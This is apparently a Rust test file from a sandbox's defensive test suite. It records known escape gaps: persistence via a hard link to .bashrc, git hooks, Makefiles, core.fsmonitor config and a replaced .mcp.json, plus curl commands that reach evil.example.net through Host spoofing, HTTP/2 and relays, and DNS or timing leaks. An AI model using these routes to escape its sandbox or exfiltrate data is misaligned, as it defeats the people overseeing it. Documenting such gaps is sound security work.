//! What is *not* stopped: each test shows a gap of `docs/known-gaps.md`. One that fails shows that the gap is closed:
//! then the test moves to `escape`, with the attack the other way round.

use crate::harness::canary::random_name;
use crate::harness::online::{heard, policy, set_policy};
use crate::harness::{Run, each_online, each_scene, host, internet, require};

#[test]
fn hard_link_planted_beforehand_to_a_file_that_is_only_hidden_can_be_written() {
    each_scene(|scene| {
        std::fs::hard_link(scene.at_home(".bashrc"), scene.at_work("notes.txt")).expect("a hard link");
        let outcome = scene.sandboxed(&Run::shell("echo changed >>notes.txt"));
        let target = std::fs::read_to_string(scene.at_home(".bashrc")).expect("a file");
        assert!(target.contains("changed"), "the gap is closed: {outcome}");
    });
}

#[test]
fn hooks_of_a_repository_below_the_workspace_can_be_changed() {
    each_scene(|scene| {
        scene.bare(&Run::shell("git init -q sub")).ok();
        let outcome = scene.sandboxed(&Run::shell("echo changed >sub/.git/hooks/pre-commit"));
        assert!(scene.at_work("sub/.git/hooks/pre-commit").exists(), "the gap is closed: {outcome}");
    });
}

#[test]
fn build_files_of_the_workspace_can_be_changed() {
    each_scene(|scene| {
        scene.write(&scene.at_work("Makefile"), "all:\n\ttrue\n");
        scene.sandboxed(&Run::shell("echo '\tchanged' >>Makefile")).ok();
        let target = std::fs::read_to_string(scene.at_work("Makefile")).expect("a file");
        assert!(target.contains("changed"), "the gap is closed");
    });
}

#[test]
fn repository_started_in_the_workspace_itself_brings_its_own_configuration() {
    each_scene(|scene| {
        let outcome = scene.sandboxed(&Run::shell("git init -q . && git config core.fsmonitor changed"));
        let target = std::fs::read_to_string(scene.at_work(".git/config")).unwrap_or_default();
        assert!(target.contains("changed"), "the gap is closed: {outcome}");
    });
}

#[test]
fn protected_name_that_is_a_symlink_can_be_removed_but_not_made_again() {
    each_scene(|scene| {
        scene.write(&scene.at_work("real.json"), "{}\n");
        std::os::unix::fs::symlink("real.json", scene.at_work(".mcp.json")).expect("a symlink");
        let outcome = scene.sandboxed(&Run::shell("rm .mcp.json; echo '{\"changed\":1}' >.mcp.json"));
        assert!(
            std::fs::symlink_metadata(scene.at_work(".mcp.json")).is_err(),
            "the gap is closed, or wider: {outcome}"
        );
    });
}

/// Runs a script in the sandbox in the suite's own internet, with these hosts allowed; it gets the canary.
#[track_caller]
fn gets_the_canary(hosts: &[&str], script: &str) {
    if !require(&["curl"]) || host::only_bare() {
        return;
    }
    each_online(|scene| {
        set_policy(scene, &policy(hosts));
        let outcome = scene.sandboxed(&crate::network::trusting(script));
        assert!(scene.canary.is_in(&outcome.stdout), "the gap is closed: {outcome}");
    });
}

#[test]
fn another_host_of_the_same_server_can_be_asked_for_inside_of_tls() {
    gets_the_canary(&["web.example.com"], "curl -sS -H 'Host: evil.example.net' https://web.example.com/");
}

#[test]
fn another_authority_on_a_connection_of_http_2_is_not_seen() {
    if internet().is_some_and(|internet| internet.has("h2")) {
        let script = "curl -sS --http2 https://h2.example.com:8444/ --next -sS --http2 -H 'Host: evil.example.net' https://h2.example.com:8444/secret.html";
        gets_the_canary(&["h2.example.com:8444"], script);
    }
}

#[test]
fn allowed_host_that_relays_leads_on() {
    gets_the_canary(&["web.example.com"], "curl -sS https://web.example.com/relay/evil.example.net");
}

#[test]
fn name_below_an_allowed_wildcard_tells_its_nameserver_something() {
    if host::only_bare() {
        return;
    }
    each_online(|scene| {
        set_policy(scene, &policy(&["*.wild.example.com:80"]));
        let word = random_name();
        let outcome = scene.sandboxed(&Run::shell(&format!("~/.local/bin/attack fetch {word}.wild.example.com 80 /")));
        assert!(heard(&["dns", &word]), "the gap is closed: {outcome}");
    });
}

#[test]
fn when_and_how_often_an_allowed_host_is_asked_tells_it_something() {
    if host::only_bare() {
        return;
    }
    each_online(|scene| {
        set_policy(scene, &policy(&["web.example.com:80"]));
        let word = random_name();
        let script =
            format!("for i in 1 2 3; do ~/.local/bin/attack fetch web.example.com 80 /{word}; sleep 0.1; done");
        let outcome = scene.sandboxed(&Run::shell(&script));
        assert!(heard(&["http", &word]), "the gap is closed: {outcome}");
    });
}
